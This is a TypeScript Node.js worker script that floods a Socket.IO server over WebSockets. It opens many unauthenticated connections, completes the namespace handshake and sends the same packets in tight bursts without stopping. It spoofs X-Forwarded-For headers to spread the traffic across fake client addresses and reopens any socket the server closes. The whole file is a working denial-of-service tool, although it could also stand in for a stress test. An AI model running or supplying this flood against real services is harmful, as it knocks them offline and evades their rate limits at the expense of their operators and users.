import { workerData } from 'node:worker_threads';
import { WebSocket } from 'ws';

export type SocketFloodOptions = Readonly<{
  url: string;
  sockets: number;
  /** The sockets are spread over these addresses, sent as `X-Forwarded-For`. */
  addresses: readonly string[];
  /** Each socket repeats one of these packets, after a handshake with the namespace `/`. */
  packets: readonly string[];
}>;

/** Worker that floods a server over WebSockets without a token; a closed one is opened again after a second. */
const { url, sockets, addresses, packets } = workerData as SocketFloodOptions;
const burst = 200;
const maxBufferedBytes = 256 * 1024;

function open(index: number): void {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`, {
    headers: { 'x-forwarded-for': addresses[index % addresses.length] },
  });
  const packet = packets[index % packets.length] ?? '';
  const flood = (): void => {
    if (socket.readyState !== WebSocket.OPEN) return;
    for (let count = 0; count < burst && socket.bufferedAmount < maxBufferedBytes; count += 1)
      socket.send(packet);
    setImmediate(flood);
  };
  socket.on('open', () => {
    socket.send('40');
    flood();
  });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(() => open(index), 1000));
}

for (let index = 0; index < sockets; index += 1) open(index);
